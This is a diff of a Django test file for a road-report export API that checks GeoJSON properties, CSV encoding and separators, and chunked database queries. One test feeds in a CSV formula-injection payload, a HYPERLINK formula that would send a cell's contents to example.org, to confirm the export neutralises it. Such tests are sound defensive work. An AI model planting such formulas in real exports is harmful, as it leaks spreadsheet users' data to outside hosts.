@@ -1,14 +1,17 @@
 """GET /api/v1/reports.geojson and .csv: filters, formats, roles, streaming, and GDAL reading the result."""
 
 import csv
+import datetime
 import io
 import json
 import re
 import subprocess
 
 import pytest
+from django.db.models import F
 from django.utils import timezone
 
+from reports import representation
 from reports.models import Report
 from tests.conftest import REPORTER_EMAIL, REPORTER_PHONE, staff_user, verified_login
 from tests.conftest import make_report as report
@@ -41,6 +44,8 @@ def test_the_geojson_follows_rfc_7946_and_names_the_download(client):
     assert feature["geometry"] == {"type": "Point", "coordinates": [GANTING_GPS[1], GANTING_GPS[0]]}
     properties = feature["properties"]
     assert properties["code"] == filed.code and properties["kelurahan"] == "Ganting"
+    # The filter joins the category and its parent: the properties still read the report's own category.
+    assert (properties["category"], properties["category_name"]) == ("jalan-berlubang", filed.category.name_id)
     assert properties["kecamatan_code"] == "13.74.01" and properties["crew"] == "Tim Jalan Padang Panjang Timur"
     assert re.fullmatch(r"http://testserver/media/photos/\d{4}/\d\d/[\w-]{22}\.jpg", properties["photos"][0])
 
@@ -94,20 +99,41 @@ def test_visitors_get_public_reports_and_fields_planners_hidden_ones_too_dispatc
         assert PHONE not in export and EMAIL not in export
 
 
-def test_the_csv_has_a_header_and_one_row_a_report(client):
-    report(), report(lat=-0.4608)
+def csv_rows(response, separator=","):
+    body = b"".join(response.streaming_content)
+    assert body.startswith(b"\xef\xbb\xbf")  # the byte-order mark: Excel reads UTF-8, not ANSI
+    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig")), delimiter=separator))
+
+
+def test_the_csv_has_a_header_and_one_row_a_report_as_a_spreadsheet_reads_it(client):
+    late = report(due_date="2020-01-01", created=datetime.datetime(2026, 11, 28, 1, 5, 9, tzinfo=datetime.UTC))
+    report(lat=-0.4608)
     response = client.get("/api/v1/reports.csv", {"status": "baru"})
     assert response["Content-Disposition"].endswith('-baru.csv"')
-    table = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    table = csv_rows(response)
     assert len(table) == 2 and float(table[0]["lon"]) == pytest.approx(GANTING_GPS[1])
-    assert table[0]["kelurahan"] == "Ganting"
+    first = table[0]
+    assert first["kelurahan"] == "Ganting" and first["code"] == late.code
+    assert first["created_wib"] == "2026-11-28 08:05:09"  # 01:05 UTC is 08:05 in Padangpanjang
+    assert (first["overdue"], table[1]["overdue"]) == ("1", "0") and first["support_count"] == "0"
+
+
+def test_a_semicolon_csv_for_a_spreadsheet_that_writes_decimal_commas(client):
+    report(description="Lubang; dalam, lebar")
+    response = client.get("/api/v1/reports.csv", {"sep": ";"})
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    header, line = body.splitlines()
+    assert header.startswith("lon;lat;code;category;")
+    assert line.split(";")[:2] == [f"{GANTING_GPS[1]:.6f}", f"{GANTING_GPS[0]:.6f}"]  # numbers, unquoted
+    refused = client.get("/api/v1/reports.csv", {"sep": "|"})
+    assert refused.status_code == 400 and list(refused.json()) == ["sep"]
 
 
 def test_csv_text_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, django_user_model):
     report(reporter_name='=HYPERLINK("http://example.org/?"&A1,"klik")', lat=GANTING_GPS[0] - 0.0001)
     report(reporter_name="@SUM(1+1)")
     verified_login(client, staff_user(django_user_model, "dewi", "dispatcher"))
-    table = list(csv.DictReader(io.StringIO(b"".join(client.get("/api/v1/reports.csv").streaming_content).decode())))
+    table = csv_rows(client.get("/api/v1/reports.csv"))
     assert sorted(row["reporter_name"] for row in table) == ["'=HYPERLINK(\"http://example.org/?\"&A1,\"klik\")",
                                                               "'@SUM(1+1)"]
     assert all(float(row["lat"]) < 0 and not row["lat"].startswith("'") for row in table)  # numbers stay numbers
@@ -140,6 +166,16 @@ def test_an_export_answers_in_its_own_format_whatever_the_client_accepts(client,
 def test_an_export_is_one_query_however_many_reports_and_photos(client, django_assert_num_queries, path):
     for offset in range(4):
         report(lat=GANTING_GPS[0] - offset * 0.0001, with_photo=offset < 2)
-    with django_assert_num_queries(1):  # PostgreSQL writes every row's text; a server-side cursor hands it over
+    # PostgreSQL writes every report's text: the range of ids, then one COPY for the range (10,000 ids).
+    with django_assert_num_queries(2):
         body = b"".join(client.get(path).streaming_content)
     assert body.count(b"PP-") == 4
+
+
+def test_a_copy_goes_a_range_of_ids_at_a_time_in_order_and_skips_empty_ranges():
+    filed = [report(north=-n * 0.0001) for n in range(4)]
+    Report.objects.filter(pk=filed[1].pk).update(hidden=True)
+    chunks = list(representation.copied(Report.objects.public(), [F("code")], "FORMAT csv", ids_per_copy=2))
+    first, _, third, fourth = (f.code.encode() for f in filed)
+    assert filed[3].pk - filed[0].pk == 3  # ranges from the first id: [0, 2) holds the hidden one, [2, 4) two
+    assert chunks == [first + b"\n", third + b"\n" + fourth + b"\n"]
